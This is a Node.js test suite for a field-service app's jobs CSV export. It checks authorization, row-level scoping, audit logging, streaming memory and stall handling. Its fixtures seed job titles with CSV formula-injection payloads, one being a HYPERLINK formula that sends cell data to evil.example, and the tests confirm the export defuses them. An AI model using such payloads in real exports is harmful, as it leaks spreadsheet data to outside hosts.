/**
 * The jobs CSV export (domains/fieldservice/export.ts) through the real pipeline: bearer tokens
 * verified, the authorization stage (permission, then step-up), row-level security beneath the
 * store's scope predicate, a real HTTP socket so that backpressure and aborts are real.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { randomUUID } from 'node:crypto';
import { exportJWK, generateKeyPair, SignJWT, type JWK } from 'jose';
import type { FastifyInstance } from 'fastify';
import { databaseKinds, openMigrated, type TestDatabase } from '../helpers/databases.ts';
import { testApp } from '../helpers/app.ts';
import type { Database } from '../../src/db/index.ts';
import { asCaller } from '../../src/db/claims.ts';
import { authorizationStage, loadCaller } from '../../src/authz/index.ts';
import { AuditTrail } from '../../src/audit/trail.ts';
import { BearerVerifier } from '../../src/http/bearer.ts';
import { ManualClock } from '../../src/clock.ts';
import { csvCell, exportRoutes, JOB_EXPORT_COLUMNS } from '../../src/domains/fieldservice/export.ts';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const ISSUER = 'https://palisade.test';
const AUDIENCE = 'api';
/** The stall timeout of the routes under STALLING, for the test of the stall timeout itself. */
const STALL_MS = 1500;
/**
 * Every other export is served with a stall timeout that only guards against a hang: a client
 * slowed by a loaded machine (or by the memory test's full collections) must not lose its export.
 */
const HANG_GUARD_MS = 120_000;
const STALLING = '/stalling';
/** The rows of the memory test's two exports (the tests after it export them all). */
const SMALL_EXPORT = 5_000;
const LARGE_EXPORT = 50_000;
const MB = 1024 * 1024;

interface Person {
  id: string;
  roles: string[];
  territory: string | null;
  region?: string | null;
  department?: string | null;
}

const people = {
  tech: { id: randomUUID(), roles: ['technician'], territory: 'north' },
  dispatcher: { id: randomUUID(), roles: ['dispatcher'], territory: 'north' },
  manager: { id: randomUUID(), roles: ['manager'], territory: 'north' },
  regionalHvac: { id: randomUUID(), roles: ['manager'], territory: 'north', region: 'east', department: 'hvac' },
  admin: { id: randomUUID(), roles: ['admin'], territory: null },
} satisfies Record<string, Person>;

/** A minimal RFC 4180 parser, to read back what the export wrote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      record.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      i += 1;
    } else cell += c;
  }
  assert.equal(cell + record.join(''), '', 'the CSV ends with a complete CRLF-terminated record');
  return records;
}

interface Answer {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: string;
}

for (const kind of databaseKinds()) {
  describe(`jobs CSV export (${kind.kind})`, () => {
    let database: TestDatabase;
    let db: Database;
    let app: FastifyInstance;
    let trail: AuditTrail;
    let port: number;
    let sign: (who: Person, authTimeS: number) => Promise<string>;
    const clock = new ManualClock(Date.now());
    const nowS = () => Math.floor(clock.now() / 1000);

    const get = (path: string, token: string) =>
      new Promise<Answer>((resolve, reject) => {
        http
          .get({ host: '127.0.0.1', port, path, headers: { authorization: `Bearer ${token}` } }, (res) => {
            const chunks: Buffer[] = [];
            res.on('data', (c: Buffer) => chunks.push(c));
            res.on('end', () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString('utf8') }));
            res.on('error', reject);
          })
          .on('error', reject);
      });

    /** Completes within `ms` or fails: a transaction left open would make the next request hang on PGlite. */
    const within = <T>(ms: number, what: string, promise: Promise<T>) =>
      Promise.race([promise, new Promise<never>((_, reject) => setTimeout(() => reject(new Error(`${what} did not finish within ${ms} ms`)), ms).unref())]);

    const exportRecords = async () =>
      (
        await db.asOwner((o) =>
          o.query<{ outcome: string; reason: string | null; detail: { rows: number; filters: Record<string, unknown> }; actor: { userId?: string } }>(
            "SELECT outcome, reason, detail, actor FROM audit_events WHERE action = 'export.jobs' ORDER BY id",
          ),
        )
      ).rows;

    before(async () => {
      database = await kind.create({ migrated: true });
      db = await openMigrated(database);
      await db.asOwner(async (o) => {
        await o.exec(`
          INSERT INTO fs_territories (code, name, region) VALUES ('north', 'North', 'east'), ('south', 'South', 'east'), ('west', 'West', 'west');
          INSERT INTO fs_projects (code, name, contractor) VALUES ('PRJ-1', 'Solar', 'Brightline');
          INSERT INTO fs_customers (id, name) VALUES ('00000000-0000-4000-8000-000000000001', 'Harbor Foods');
          INSERT INTO fs_sites (id, customer_id, name, address, territory, region, access_notes) VALUES
            ('00000000-0000-4000-8000-0000000000a1', '00000000-0000-4000-8000-000000000001', 'Depot N', '1 Mill Road', 'north', '', 'pe1.secret-gate-code'),
            ('00000000-0000-4000-8000-0000000000a2', '00000000-0000-4000-8000-000000000001', 'Depot S', '2 Mill Road', 'south', '', NULL),
            ('00000000-0000-4000-8000-0000000000a3', '00000000-0000-4000-8000-000000000001', 'Depot W', '3 Mill Road', 'west', '', NULL);`);
        for (const [name, p] of Object.entries(people) as [string, Person][]) {
          await o.query('INSERT INTO users (id, issuer, subject, name, roles, territory, region, department) VALUES ($1, $2, $3, $4, $5, $6, $7, $8)', [
            p.id,
            ISSUER,
            name,
            name,
            p.roles,
            p.territory,
            p.region ?? null,
            p.department ?? null,
          ]);
        }
        await o.query("INSERT INTO fs_technicians (user_id, display_name, territory, region) VALUES ($1, 'Tess', 'north', '')", [people.tech.id]);
        // Every combination of territory, department and status, some assigned to the technician,
        // and titles a spreadsheet would run as formulas.
        await o.query(
          `INSERT INTO fs_jobs (title, department, territory, region, site_id, project, status, assigned_to, window_start, window_end, created_at)
           SELECT CASE i % 7 WHEN 0 THEN '=HYPERLINK("http://evil.example/?"&A1,"Click")' WHEN 1 THEN '+1+1' WHEN 2 THEN '-2+3' WHEN 3 THEN '@SUM(A1:A9)'
                             WHEN 4 THEN E'\\tTabbed' WHEN 5 THEN E'\\rCarriage, "quoted"\\nline' ELSE 'Boiler service ' || i END,
             (ARRAY['hvac', 'electrical'])[1 + i % 2], t.code, '', ('00000000-0000-4000-8000-0000000000a' || (1 + (t.n - 1)))::uuid,
             CASE WHEN i % 5 = 0 THEN 'PRJ-1' END,
             CASE WHEN i % 3 = 0 THEN 'assigned' ELSE 'new' END,
             CASE WHEN i % 3 = 0 AND t.code = 'north' THEN $1::uuid END,
             CASE WHEN i % 4 = 0 THEN timestamptz '2026-03-01T08:00:00Z' END, CASE WHEN i % 4 = 0 THEN timestamptz '2026-03-01T12:00:00Z' END,
             timestamptz '2026-01-01T00:00:00Z' + i * interval '1 hour'
           FROM generate_series(1, 30) i, (VALUES ('north', 1), ('south', 2), ('west', 3)) t(code, n)`,
          [people.tech.id],
        );
      });

      const { privateKey, publicKey } = await generateKeyPair('ES256');
      const jwk: JWK = { ...(await exportJWK(publicKey)), kid: 'test', alg: 'ES256', use: 'sig' };
      sign = (who, authTimeS) =>
        // A company-managed device: export is refused on personal (and unreported) devices.
        new SignJWT({ client_id: 'field-app', sid: randomUUID(), roles: who.roles, scope: 'api', auth_time: authTimeS, device_ownership: 'corporate', device_compliant: true })
          .setProtectedHeader({ alg: 'ES256', kid: 'test', typ: 'at+jwt' })
          .setIssuer(ISSUER)
          .setAudience(AUDIENCE)
          .setSubject(who.id)
          .setIssuedAt(nowS())
          .setExpirationTime(nowS() + 3600)
          .setJti(randomUUID())
          .sign(privateKey);
      const silent = { error: () => undefined, warn: () => undefined };
      trail = new AuditTrail(db, clock, silent, { flushIntervalMs: 10 });
      app = testApp({
        bearer: new BearerVerifier([jwk], { issuer: ISSUER, audience: AUDIENCE, clock, isRevoked: () => false, claimOnce: async () => true }),
        authorization: authorizationStage(db),
        stepUp: { maxAgeMs: 300_000, clock },
        audit: trail,
      });
      await app.register(exportRoutes, { db, audit: trail, clock, stallTimeoutMs: HANG_GUARD_MS });
      await app.register(exportRoutes, { prefix: STALLING, db, audit: trail, clock, stallTimeoutMs: STALL_MS });
      await app.listen({ host: '127.0.0.1', port: 0 });
      port = (app.server.address() as AddressInfo).port;
    });

    after(async () => {
      await app?.close();
      await trail?.flush();
      await db?.close();
      await database?.drop();
    });

    /** A token whose sign-in is `ageS` seconds old (step-up wants at most 300). */
    const token = (who: Person, ageS = 10) => sign(who, nowS() - ageS);
    /** What the person may see, asked of row-level security alone (no WHERE of ours). */
    const visibleIds = async (who: Person, where = 'TRUE', params: unknown[] = []) => {
      const caller = (await loadCaller(db, who.id, undefined))!;
      const { rows } = await asCaller(db, caller.claims, (tx) => tx.query<{ id: string }>(`SELECT id FROM fs_jobs WHERE ${where}`, params));
      return rows.map((r) => r.id).sort();
    };

    test('technicians and dispatchers are refused with 403 forbidden naming the permission', async () => {
      for (const who of [people.tech, people.dispatcher]) {
        const answer = await get('/api/v1/exports/jobs.csv', await token(who));
        assert.equal(answer.status, 403, `${who.roles[0]} may not export: data.export is for managers and admins`);
        const problem = JSON.parse(answer.body) as { type: string; permission: string };
        assert.match(problem.type, /forbidden$/);
        assert.equal(problem.permission, 'data.export');
      }
    });

    test('a manager whose sign-in is older than the step-up window gets 401 step-up-required, not the data', async () => {
      const answer = await get('/api/v1/exports/jobs.csv', await token(people.manager, 3600));
      assert.equal(answer.status, 401, 'export is a sensitive action: RFC 9470 step-up');
      assert.match((JSON.parse(answer.body) as { type: string }).type, /step-up-required$/);
      assert.doesNotMatch(answer.body, /Boiler/, 'no row leaks with the challenge');
    });

    test('a manager with a fresh sign-in gets exactly the rows in their scope as an attachment', async () => {
      const answer = await get('/api/v1/exports/jobs.csv', await token(people.manager));
      assert.equal(answer.status, 200, answer.body);
      assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8');
      assert.equal(answer.headers['content-disposition'], `attachment; filename="jobs-${new Date(clock.now()).toISOString().slice(0, 10)}.csv"`);
      assert.equal(answer.headers['cache-control'], 'no-store', 'exported personal data must not stay in a cache');
      const [header, ...records] = parseCsv(answer.body);
      assert.deepEqual(header, [...JOB_EXPORT_COLUMNS]);
      const expected = await visibleIds(people.manager);
      assert.equal(expected.length, 30, 'the north manager sees the north jobs (fixture check)');
      assert.deepEqual(records.map((r) => r[0]!).sort(), expected, 'the export holds the rows row-level security shows this caller, no more, no fewer');
      assert.ok(records.every((r) => r[3] === 'north'));
      const createdAt = records.map((r) => r[12]!);
      assert.deepEqual(createdAt, [...createdAt].sort().reverse(), 'newest first');
      assert.doesNotMatch(answer.body, /secret-gate-code|Harbor Foods|Mill Road/, 'no access notes, customers or addresses in the export');
    });

    test('a regional manager with a department sees their region narrowed to it; filters narrow further', async () => {
      const all = await get('/api/v1/exports/jobs.csv', await token(people.regionalHvac));
      const ids = parseCsv(all.body).slice(1).map((r) => r[0]!).sort();
      assert.deepEqual(ids, await visibleIds(people.regionalHvac));
      assert.equal(ids.length, 30, 'north and south (region east), hvac only: 15 + 15');

      const query = '?territory=south&status=assigned&from=2026-01-01T05:00:00Z&to=2026-01-02T00:00:00Z';
      const filtered = await get(`/api/v1/exports/jobs.csv${query}`, await token(people.regionalHvac));
      assert.equal(filtered.status, 200, filtered.body);
      const filteredIds = parseCsv(filtered.body).slice(1).map((r) => r[0]!).sort();
      const expected = await visibleIds(people.regionalHvac, "territory = 'south' AND status = 'assigned' AND created_at >= $1 AND created_at < $2", ['2026-01-01T05:00:00Z', '2026-01-02T00:00:00Z']);
      assert.ok(expected.length > 0, 'the filter selects something (fixture check)');
      assert.deepEqual(filteredIds, expected);

      const outside = await get('/api/v1/exports/jobs.csv?territory=west', await token(people.regionalHvac));
      assert.equal(parseCsv(outside.body).length, 1, 'a filter for a territory outside the scope gives the header only, not the rows');
    });

    test('the query is strict: unknown parameters and reversed dates are 400', async () => {
      const manager = await token(people.manager);
      assert.equal((await get('/api/v1/exports/jobs.csv?columns=accessNotes', manager)).status, 400);
      assert.equal((await get('/api/v1/exports/jobs.csv?status=lost', manager)).status, 400);
      assert.equal((await get('/api/v1/exports/jobs.csv?from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z', manager)).status, 400);
    });

    test('cells that a spreadsheet would run as formulas start with an apostrophe; quotes, commas and line breaks stay in their cell', async () => {
      assert.equal(csvCell('=1+1'), `"'=1+1"`);
      assert.equal(csvCell('+1'), `"'+1"`);
      assert.equal(csvCell('-1'), `"'-1"`);
      assert.equal(csvCell('@SUM(A1)'), `"'@SUM(A1)"`);
      assert.equal(csvCell('\tx'), `"'\tx"`);
      assert.equal(csvCell('\rx'), `"'\rx"`);
      assert.equal(csvCell('a "b", c'), '"a ""b"", c"');
      assert.equal(csvCell('2026-01-01'), '"2026-01-01"', 'harmless text is left alone');
      assert.equal(csvCell(null), '', 'null is an empty field');

      const answer = await get('/api/v1/exports/jobs.csv', await token(people.admin));
      const titles = parseCsv(answer.body).slice(1).map((r) => r[1]!);
      assert.equal(titles.length, 90, 'the admin sees every job');
      for (const start of ['=', '+', '-', '@', '\t', '\r']) {
        const cells = titles.filter((t) => t.startsWith(start));
        assert.equal(cells.length, 0, `no cell starts with ${JSON.stringify(start)}`);
        assert.ok(titles.some((t) => t.startsWith(`'${start}`)), `the ${JSON.stringify(start)} titles are there, defused`);
      }
      assert.ok(titles.includes(`'\rCarriage, "quoted"\nline`), 'commas, quotes and line feeds survive inside one cell');
    });

    test('each finished export leaves one export.jobs record with the row count and filters', async () => {
      const before = (await exportRecords()).length;
      await get('/api/v1/exports/jobs.csv?department=hvac', await token(people.manager));
      const records = await exportRecords();
      assert.equal(records.length, before + 1);
      const last = records.at(-1)!;
      assert.equal(last.outcome, 'success');
      assert.equal(last.detail.rows, 15);
      assert.deepEqual(last.detail.filters, { department: 'hvac' });
      assert.equal(last.actor.userId, people.manager.id, 'the record names who exported');
      const refused = records.filter((r) => r.actor.userId === people.tech.id || r.actor.userId === people.dispatcher.id);
      assert.equal(refused.length, 0, 'refused callers export nothing, and no export record is written for them');
    });

    interface MemoryGrowth {
      rows: number;
      bytes: number;
      ms: number;
      /** Peak JS heap over the baseline right after a full collection: the objects the export keeps alive. */
      liveHeapMb: number;
      /** The same with `external` (Buffers: socket and driver I/O) added. */
      liveTotalMb: number;
      /** Peak heapUsed + external as sampled every 5 ms, garbage included. */
      sampledMb: number;
      rssMb: number;
    }

    /** Full collections until what an earlier suite left behind (a closed PGlite's memory) is gone. */
    const settle = async () => {
      for (let i = 0; i < 3; i += 1) {
        gc();
        await new Promise((resolve) => setImmediate(resolve));
      }
    };

    /**
     * Streams an export and samples memory while consuming it: every 5 ms as it is, and every
     * 8 chunks received after a full collection (live memory: what the export actually holds, without the
     * garbage a lazy collector has not reclaimed yet). Client and server share this process, so
     * both sides' buffers count.
     */
    const measure = async (path: string, tokenValue: string) => {
      await settle();
      const base = process.memoryUsage();
      return new Promise<MemoryGrowth>((resolve, reject) => {
        let sampled = 0;
        let liveHeap = 0;
        let liveTotal = 0;
        let rss = 0;
        const sample = () => {
          const m = process.memoryUsage();
          sampled = Math.max(sampled, m.heapUsed + m.external - base.heapUsed - base.external);
          rss = Math.max(rss, m.rss - base.rss);
        };
        const sampleLive = () => {
          gc();
          const m = process.memoryUsage();
          liveHeap = Math.max(liveHeap, m.heapUsed - base.heapUsed);
          liveTotal = Math.max(liveTotal, m.heapUsed + m.external - base.heapUsed - base.external);
        };
        // Unref'd and cleared on every way this can end, so a failed export never keeps the
        // test process alive.
        const sampler = setInterval(sample, 5).unref();
        let settled = false;
        const fail = (error: Error) => {
          if (settled) return;
          settled = true;
          clearInterval(sampler);
          request.destroy();
          reject(error);
        };
        let chunks = 0;
        const started = performance.now();
        let bytes = 0;
        let rows = 0;
        const request = http.get({ host: '127.0.0.1', port, path, headers: { authorization: `Bearer ${tokenValue}` } }, (res) => {
          if (res.statusCode !== 200) {
            fail(new Error(`status ${res.statusCode}`));
            return;
          }
          let last = 0;
          res.on('data', (c: Buffer) => {
            bytes += c.length;
            // Records end in CRLF (a title's own line breaks are a lone CR or LF); the pair may
            // straddle two chunks.
            for (let i = c.indexOf(10); i !== -1; i = c.indexOf(10, i + 1)) if ((i > 0 ? c[i - 1] : last) === 13) rows += 1;
            last = c[c.length - 1]!;
            chunks += 1;
            if (chunks % 8 === 0) sampleLive();
          });
          res.on('end', () => {
            if (settled) return;
            settled = true;
            clearInterval(sampler);
            const ms = performance.now() - started;
            sample();
            resolve({ rows: rows - 1, bytes, ms, liveHeapMb: liveHeap / MB, liveTotalMb: liveTotal / MB, sampledMb: sampled / MB, rssMb: rss / MB });
          });
          res.on('error', fail);
          res.on('close', () => fail(new Error(`the export's response closed after ${bytes} bytes, before its end`)));
        });
        request.on('error', fail);
      });
    };

    const bulk = (count: number) =>
      db.asOwner((o) =>
        o.query(
          `INSERT INTO fs_jobs (title, department, territory, region, site_id, priority, created_at)
           SELECT 'Bulk job ' || i || ' with a title of ordinary length', 'electrical', 'north', '', '00000000-0000-4000-8000-0000000000a1', 'normal',
             timestamptz '2025-01-01T00:00:00Z' + i * interval '1 second'
           FROM generate_series(1, $1::int) i`,
          [count],
        ),
      );

    // Ten times the rows, and enough of them that a buffered export could not pass: 50 000 rows
    // are 11 MB of CSV, held whole as one string by an export that buffers (the driver's row
    // objects several times that), far above the slack allowed below. The bounds are on memory
    // alone, never on time; on a loaded machine this still takes a while, so the timeout only
    // guards against a hang.
    test(`memory stays flat: streaming ${LARGE_EXPORT.toLocaleString('en')} rows takes about as much as ${SMALL_EXPORT.toLocaleString('en')}`, { timeout: 480_000 }, async () => {
      await bulk(SMALL_EXPORT - 30);
      const small = await measure('/api/v1/exports/jobs.csv', await token(people.manager));
      assert.equal(small.rows, SMALL_EXPORT);
      await bulk(LARGE_EXPORT - SMALL_EXPORT);
      const large = await measure('/api/v1/exports/jobs.csv', await token(people.manager));
      assert.equal(large.rows, LARGE_EXPORT);
      const line = (m: MemoryGrowth) =>
        `${m.rows} rows: ${(m.bytes / MB).toFixed(1)} MB of CSV in ${(m.ms / 1000).toFixed(2)} s; peak growth after full GC: heap ${m.liveHeapMb.toFixed(1)} MB, ` +
        `heap+external ${m.liveTotalMb.toFixed(1)} MB; as sampled (garbage included) ${m.sampledMb.toFixed(1)} MB; RSS ${m.rssMb.toFixed(1)} MB`;
      console.log(`[${kind.kind}] ${line(small)}`);
      console.log(`[${kind.kind}] ${line(large)}`);
      // Ten times the rows (and the bytes): a buffered export would hold ten times as much (the
      // CSV alone is 11 MB of string, the driver's row objects several times that). Streamed,
      // what is alive is one FETCH batch and the I/O buffers, whatever the total.
      assert.ok(large.bytes > 9 * small.bytes);
      assert.ok(large.bytes > 10 * MB, 'more CSV than the slack below: a buffered export could not pass');
      assert.ok(
        large.liveHeapMb <= Math.max(2 * small.liveHeapMb, small.liveHeapMb + 4),
        `live heap for ${LARGE_EXPORT} rows (${large.liveHeapMb.toFixed(1)} MB) must stay near that for ${SMALL_EXPORT} (${small.liveHeapMb.toFixed(1)} MB)`,
      );
      assert.ok(
        large.liveTotalMb <= Math.max(2 * small.liveTotalMb, small.liveTotalMb + 12),
        `live heap+external for ${LARGE_EXPORT} rows (${large.liveTotalMb.toFixed(1)} MB) must stay near that for ${SMALL_EXPORT} (${small.liveTotalMb.toFixed(1)} MB)`,
      );
    });

    const noIdleTransactions = async () => {
      if (kind.kind !== 'postgres') return;
      const { rows } = await db.asOwner((o) =>
        o.query<{ n: number }>("SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()"),
      );
      assert.equal(rows[0]!.n, 0, 'no connection is left idle in a transaction');
    };

    const waitForRecord = async (count: number, outcome: string) => {
      for (let i = 0; i < 400; i += 1) {
        const records = (await exportRecords()).filter((r) => r.outcome === outcome);
        if (records.length >= count) return records.at(-1)!;
        await new Promise((r) => setTimeout(r, 25));
      }
      throw new Error(`no ${outcome} export record appeared`);
    };
    const failures = async () => (await exportRecords()).filter((r) => r.outcome === 'failure').length;

    test('a client that disconnects mid-stream ends the transaction: recorded as a failure, the next request is served', { timeout: 60_000 }, async () => {
      const before = await failures();
      const managerToken = await token(people.manager);
      await new Promise<void>((resolve, reject) => {
        const request = http.get({ host: '127.0.0.1', port, path: '/api/v1/exports/jobs.csv', headers: { authorization: `Bearer ${managerToken}` } }, (res) => {
          let bytes = 0;
          res.on('data', (c: Buffer) => {
            bytes += c.length;
            if (bytes > 512 * 1024) {
              request.destroy();
              resolve();
            }
          });
          res.on('end', () => reject(new Error('the export finished before the client went away')));
        });
        request.on('error', () => undefined);
      });
      const record = await within(30_000, 'the aborted export’s record', waitForRecord(before + 1, 'failure'));
      assert.equal(record.reason, 'client_closed');
      assert.ok(record.detail.rows > 0 && record.detail.rows < LARGE_EXPORT, `the rows sent before the client left (${record.detail.rows})`);
      const next = await within(30_000, 'the request after an aborted export', get('/api/v1/exports/jobs.csv?territory=south', await token(people.regionalHvac)));
      assert.equal(next.status, 200);
      await noIdleTransactions();
    });

    /** Starts an export whose client reads nothing; resolves once the response has begun (the export's transaction is open). */
    const stalledExport = (path: string, tokenValue: string) =>
      new Promise<{ request: http.ClientRequest; response: http.IncomingMessage }>((resolve, reject) => {
        const request = http.get({ host: '127.0.0.1', port, path, headers: { authorization: `Bearer ${tokenValue}` } }, (response) => {
          response.pause(); // reads nothing: the socket buffers fill and the server must wait
          if (response.statusCode === 200) resolve({ request, response });
          else reject(new Error(`status ${response.statusCode}`));
        });
        request.on('error', reject);
      });

    test('a client that stops reading loses its export after the stall timeout; meanwhile PGlite serves no one else', { timeout: 120_000 }, async () => {
      const before = await failures();
      const started = performance.now();
      const { request, response } = await stalledExport(`${STALLING}/api/v1/exports/jobs.csv`, await token(people.manager));
      request.on('error', () => undefined);
      // Another person's request while the stalled export holds its transaction.
      const otherToken = await token(people.regionalHvac);
      const other = get('/api/v1/exports/jobs.csv?territory=south', otherToken).then((answer) => ({ answer, at: performance.now() - started }));
      const record = await within(STALL_MS + 30_000, 'the stalled export’s record', waitForRecord(before + 1, 'failure'));
      const stalledAt = performance.now() - started;
      assert.equal(record.reason, 'client_stalled');
      assert.ok(stalledAt >= STALL_MS, 'not before the stall timeout');
      const { answer, at } = await within(30_000, 'the request beside a stalled export', other);
      assert.equal(answer.status, 200);
      if (kind.kind === 'pglite') {
        assert.ok(at >= STALL_MS, `PGlite is one connection: the other request waits for the export's transaction to end (served after ${at.toFixed(0)} ms)`);
      }
      await noIdleTransactions();
      response.destroy();
      request.destroy();
    });

    test(
      'PostgreSQL serves another request while a stalled export holds its transaction',
      { timeout: 120_000, skip: kind.kind === 'pglite' && 'PGlite is one connection: the test above shows the other request waits' },
      async () => {
        const before = await failures();
        // The route with the hang-guard stall timeout: the export stays stalled until this test lets go.
        const { request, response } = await stalledExport('/api/v1/exports/jobs.csv', await token(people.manager));
        request.on('error', () => undefined);
        const answer = await within(30_000, 'the request beside a stalled export', get('/api/v1/exports/jobs.csv?territory=south', await token(people.regionalHvac)));
        assert.equal(answer.status, 200, 'served from another pooled connection');
        assert.ok(parseCsv(answer.body).length > 1, 'with its rows');
        assert.equal(await failures(), before, 'while the stalled export has not ended');
        // Until the socket buffers are full the export is still fetching, and its backend flips
        // between active and idle in transaction; once they are full it waits, idle in its
        // transaction, for as long as the client reads nothing. Poll for that steady state.
        let waiting = 0;
        for (let i = 0; i < 400 && waiting === 0; i += 1) {
          const { rows } = await db.asOwner((o) =>
            o.query<{ n: number }>(
              "SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%' AND pid <> pg_backend_pid()",
            ),
          );
          waiting = rows[0]!.n;
          if (waiting === 0) await new Promise((r) => setTimeout(r, 25));
        }
        assert.ok(waiting >= 1, 'and still holds its transaction, waiting for its client');
        assert.equal(await failures(), before, 'the stalled export has still not ended');
        response.destroy();
        request.destroy();
        const record = await within(30_000, 'the abandoned export’s record', waitForRecord(before + 1, 'failure'));
        assert.equal(record.reason, 'client_closed');
        await noIdleTransactions();
      },
    );
  });
}
